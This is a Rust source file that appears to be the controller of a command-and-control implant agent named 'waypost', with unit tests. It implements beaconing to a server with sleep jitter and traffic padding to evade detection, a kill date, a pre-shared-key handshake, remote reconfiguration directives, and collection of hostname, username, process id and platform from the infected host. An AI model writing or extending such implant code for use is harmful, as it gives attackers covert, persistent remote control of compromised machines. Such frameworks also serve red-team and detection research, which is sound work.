//! Controller: the beacon loop tying handshake, engine and transport
//! together.
//!
//! Two nested loops. The outer one establishes a session and re-runs on any
//! re-register signal; the inner one sleeps with jitter, drains finished
//! artifacts, beacons, and routes whatever the server sent back. Control
//! directives never enter the job engine; they mutate the running agent here
//! and acknowledge through a result artifact.

use std::sync::Arc;

use anyhow::{bail, Context, Result};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use tokio::time::Duration;
use tracing::{debug, info, warn};
use uuid::Uuid;
use waypost_protocol::{
    AgentInfo, Envelope, HandshakeMessage, Job, JobPayload, MessageBody, TaskResult,
};

use crate::commands;
use crate::config::Config;
use crate::engine::JobEngine;
use crate::handshake::{AuthOutcome, SessionHandshake};
use crate::transport::Transport;

pub struct Agent {
    id: Uuid,
    sleep_secs: u64,
    skew_ms: u64,
    kill_date: i64,
    max_retry: u32,
    padding_max: usize,
    engine: Arc<JobEngine>,
    handshake: SessionHandshake<StdRng>,
    rng: StdRng,
    failures: u32,
}

impl Agent {
    pub fn new(config: &Config) -> Self {
        let id = Uuid::new_v4();
        info!(agent_id = %id, server = %config.server_addr, "agent created");
        Self {
            id,
            sleep_secs: config.sleep_secs,
            skew_ms: config.skew_ms,
            kill_date: config.kill_date,
            max_retry: config.max_retry,
            padding_max: config.padding_max,
            engine: JobEngine::spawn(id, config.queue_capacity, config.max_tasks),
            handshake: SessionHandshake::new(
                id,
                config.psk.clone(),
                config.padding_max,
                config.token_lifetime_secs,
                StdRng::from_entropy(),
            ),
            rng: StdRng::from_entropy(),
            failures: 0,
        }
    }

    /// Run until the kill date passes, a kill directive arrives, or the
    /// retry budget is exhausted.
    pub async fn run<T: Transport>(mut self, mut transport: T) -> Result<()> {
        commands::setup();
        let result = self.beacon_loop(&mut transport).await;
        commands::teardown();
        result
    }

    async fn beacon_loop<T: Transport>(&mut self, transport: &mut T) -> Result<()> {
        let mut force_register = false;

        'auth: loop {
            if self.past_kill_date() {
                info!(agent_id = %self.id, "kill date reached, exiting");
                return Ok(());
            }

            match self.handshake.authenticate(transport, force_register).await {
                Ok(AuthOutcome::Established(_)) => {
                    self.failures = 0;
                    force_register = false;
                }
                Ok(AuthOutcome::ReRegister) => {
                    // A server that demands re-registration on every attempt
                    // burns the same retry budget as a failing one.
                    self.failures += 1;
                    warn!(
                        agent_id = %self.id,
                        failures = self.failures,
                        "re-registering at server request"
                    );
                    if self.failures >= self.max_retry {
                        bail!(
                            "giving up after {} consecutive re-registration demands",
                            self.failures
                        );
                    }
                    force_register = true;
                    self.sleep_with_jitter().await;
                    continue 'auth;
                }
                Err(err) => {
                    self.failures += 1;
                    warn!(
                        agent_id = %self.id,
                        failures = self.failures,
                        "authentication failed: {:#}", err
                    );
                    if self.failures >= self.max_retry {
                        bail!("giving up after {} failed authentication attempts", self.failures);
                    }
                    self.sleep_with_jitter().await;
                    continue 'auth;
                }
            }

            // First artifact of every session is the configuration snapshot.
            self.engine.submit(self.info_job()).await;

            loop {
                if self.past_kill_date() {
                    info!(agent_id = %self.id, "kill date reached, exiting");
                    return Ok(());
                }
                self.sleep_with_jitter().await;

                let artifacts = self.engine.drain().await;
                let body = if artifacts.is_empty() {
                    MessageBody::Checkin
                } else {
                    MessageBody::Jobs(artifacts.clone())
                };
                let envelope =
                    Envelope::new(self.id, body).with_padding(&mut self.rng, self.padding_max);

                let reply = match transport.send(envelope).await {
                    Ok(reply) => reply,
                    Err(err) => {
                        self.failures += 1;
                        warn!(failures = self.failures, "beacon failed: {:#}", err);
                        // Unsent artifacts go back on the queue for the next
                        // beacon.
                        self.engine.requeue(artifacts).await;
                        if self.failures >= self.max_retry {
                            bail!("giving up after {} failed beacons", self.failures);
                        }
                        continue;
                    }
                };
                self.failures = 0;

                match reply.body {
                    MessageBody::Checkin => {}
                    MessageBody::Jobs(jobs) => {
                        debug!(count = jobs.len(), "received jobs");
                        for job in self.engine.submit_all(jobs).await {
                            if !self.control(job).await {
                                return Ok(());
                            }
                        }
                    }
                    MessageBody::Handshake(HandshakeMessage::ReRegister) => {
                        warn!("server requested re-registration mid-session");
                        force_register = true;
                        continue 'auth;
                    }
                    MessageBody::Handshake(_) => {
                        warn!("ignoring unexpected handshake message mid-session");
                    }
                }
            }
        }
    }

    /// Apply one control directive. Returns false when the agent must exit.
    /// Every directive except kill is acknowledged with a result artifact.
    async fn control(&mut self, job: Job) -> bool {
        let JobPayload::Control(req) = &job.payload else {
            return true;
        };

        let outcome = match req.command.as_str() {
            "kill" => {
                info!(agent_id = %self.id, "kill directive received");
                return false;
            }
            "sleep" => parse_arg::<u64>(&req.args).map(|v| {
                self.sleep_secs = v;
                format!("sleep set to {}s", v)
            }),
            "skew" => parse_arg::<u64>(&req.args).map(|v| {
                self.skew_ms = v;
                format!("skew set to {}ms", v)
            }),
            "padding" => parse_arg::<usize>(&req.args).map(|v| {
                self.padding_max = v;
                self.handshake.set_padding_max(v);
                format!("padding set to {}", v)
            }),
            "maxretry" => parse_arg::<u32>(&req.args).map(|v| {
                self.max_retry = v;
                format!("maxretry set to {}", v)
            }),
            "killdate" => parse_arg::<i64>(&req.args).map(|v| {
                self.kill_date = v;
                format!("killdate set to {}", v)
            }),
            other => Err(anyhow::anyhow!("unknown control directive: {}", other)),
        };

        let result = match outcome {
            Ok(stdout) => {
                info!(directive = %req.command, "control directive applied");
                TaskResult {
                    stdout,
                    ..Default::default()
                }
            }
            Err(err) => {
                warn!(directive = %req.command, "control directive failed: {:#}", err);
                TaskResult {
                    stderr: format!("{:#}", err),
                    ..Default::default()
                }
            }
        };
        self.engine
            .submit(Job {
                agent_id: self.id,
                id: job.id,
                token: job.token,
                payload: JobPayload::Result(result),
            })
            .await;
        true
    }

    fn info_job(&self) -> Job {
        Job {
            agent_id: self.id,
            id: Uuid::new_v4(),
            token: String::new(),
            payload: JobPayload::AgentInfo(self.build_info()),
        }
    }

    fn build_info(&self) -> AgentInfo {
        AgentInfo {
            version: env!("CARGO_PKG_VERSION").to_string(),
            hostname: hostname(),
            platform: std::env::consts::OS.to_string(),
            arch: std::env::consts::ARCH.to_string(),
            pid: std::process::id(),
            username: std::env::var("USER")
                .or_else(|_| std::env::var("USERNAME"))
                .unwrap_or_else(|_| "unknown".into()),
            sleep_secs: self.sleep_secs,
            skew_ms: self.skew_ms,
            padding_max: self.padding_max,
        }
    }

    fn past_kill_date(&self) -> bool {
        self.kill_date != 0 && chrono::Utc::now().timestamp() >= self.kill_date
    }

    async fn sleep_with_jitter(&mut self) {
        let jitter = self.rng.gen_range(0..=self.skew_ms);
        tokio::time::sleep(Duration::from_secs(self.sleep_secs) + Duration::from_millis(jitter))
            .await;
    }
}

fn hostname() -> String {
    std::fs::read_to_string("/proc/sys/kernel/hostname")
        .map(|h| h.trim().to_string())
        .or_else(|_| std::env::var("HOSTNAME"))
        .unwrap_or_else(|_| "unknown".into())
}

fn parse_arg<T: std::str::FromStr>(args: &[String]) -> Result<T>
where
    T::Err: std::error::Error + Send + Sync + 'static,
{
    let raw = args.first().context("directive requires an argument")?;
    raw.parse()
        .with_context(|| format!("invalid argument: {}", raw))
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::Duration as StdDuration;
    use waypost_protocol::CommandRequest;

    struct DeadTransport;

    impl Transport for DeadTransport {
        fn set_bearer(&mut self, _token: String) {}
        fn set_secret(&mut self, _secret: Vec<u8>) {}
        async fn send(&mut self, _envelope: Envelope) -> Result<Envelope> {
            bail!("no route to host")
        }
    }

    fn config() -> Config {
        Config {
            server_addr: "127.0.0.1:1".into(),
            psk: "pw".into(),
            sleep_secs: 0,
            skew_ms: 0,
            max_retry: 2,
            ..Default::default()
        }
    }

    fn control_job(agent_id: Uuid, command: &str, args: &[&str]) -> Job {
        Job {
            agent_id,
            id: Uuid::new_v4(),
            token: "tok".into(),
            payload: JobPayload::Control(CommandRequest {
                command: command.into(),
                args: args.iter().map(|a| a.to_string()).collect(),
            }),
        }
    }

    async fn ack_of(agent: &Agent) -> TaskResult {
        for _ in 0..100 {
            let mut drained = agent.engine.drain().await;
            if let Some(job) = drained.pop() {
                match job.payload {
                    JobPayload::Result(res) => return res,
                    other => panic!("expected Result, got {}", other.kind()),
                }
            }
            tokio::time::sleep(StdDuration::from_millis(10)).await;
        }
        panic!("no acknowledgment artifact");
    }

    #[tokio::test]
    async fn sleep_directive_updates_and_acknowledges() {
        let mut agent = Agent::new(&config());
        let keep_running = agent.control(control_job(agent.id, "sleep", &["5"])).await;
        assert!(keep_running);
        assert_eq!(agent.sleep_secs, 5);
        let ack = ack_of(&agent).await;
        assert_eq!(ack.stdout, "sleep set to 5s");
    }

    #[tokio::test]
    async fn kill_directive_requests_exit_without_ack() {
        let mut agent = Agent::new(&config());
        let keep_running = agent.control(control_job(agent.id, "kill", &[])).await;
        assert!(!keep_running);
        tokio::time::sleep(StdDuration::from_millis(50)).await;
        assert!(agent.engine.drain().await.is_empty());
    }

    #[tokio::test]
    async fn unknown_directive_reports_error() {
        let mut agent = Agent::new(&config());
        assert!(agent.control(control_job(agent.id, "frobnicate", &[])).await);
        let ack = ack_of(&agent).await;
        assert_eq!(ack.stderr, "unknown control directive: frobnicate");
    }

    #[tokio::test]
    async fn malformed_argument_reports_error() {
        let mut agent = Agent::new(&config());
        assert!(agent.control(control_job(agent.id, "sleep", &["soon"])).await);
        let ack = ack_of(&agent).await;
        assert!(ack.stderr.contains("invalid argument: soon"));
        assert_eq!(agent.sleep_secs, 0);
    }

    #[tokio::test]
    async fn killdate_directive_takes_effect() {
        let mut agent = Agent::new(&config());
        assert!(!agent.past_kill_date());
        agent.control(control_job(agent.id, "killdate", &["1"])).await;
        assert_eq!(agent.kill_date, 1);
        assert!(agent.past_kill_date());
    }

    #[tokio::test]
    async fn run_exits_cleanly_past_kill_date() {
        let agent = Agent::new(&Config {
            kill_date: 1,
            ..config()
        });
        agent.run(DeadTransport).await.unwrap();
    }

    #[tokio::test]
    async fn perpetual_reregister_demands_exhaust_the_retry_budget() {
        let mut server = crate::testutil::MockServer::new("pw");
        server.reregister_always = true;

        let agent = Agent::new(&config());
        let err = agent.run(&mut server).await.unwrap_err();
        assert!(err.to_string().contains("giving up"));
        // Every attempt registered from scratch before being bounced again.
        assert_eq!(server.register_inits, 2);
    }

    #[tokio::test]
    async fn run_gives_up_after_max_retry() {
        let agent = Agent::new(&config());
        let err = agent.run(DeadTransport).await.unwrap_err();
        assert!(err.to_string().contains("giving up"));
    }

    #[tokio::test]
    async fn build_info_reflects_settings() {
        let agent = Agent::new(&Config {
            sleep_secs: 45,
            skew_ms: 1500,
            padding_max: 2048,
            ..config()
        });
        let info = agent.build_info();
        assert_eq!(info.sleep_secs, 45);
        assert_eq!(info.skew_ms, 1500);
        assert_eq!(info.padding_max, 2048);
        assert_eq!(info.pid, std::process::id());
        assert!(!info.platform.is_empty());
    }
}
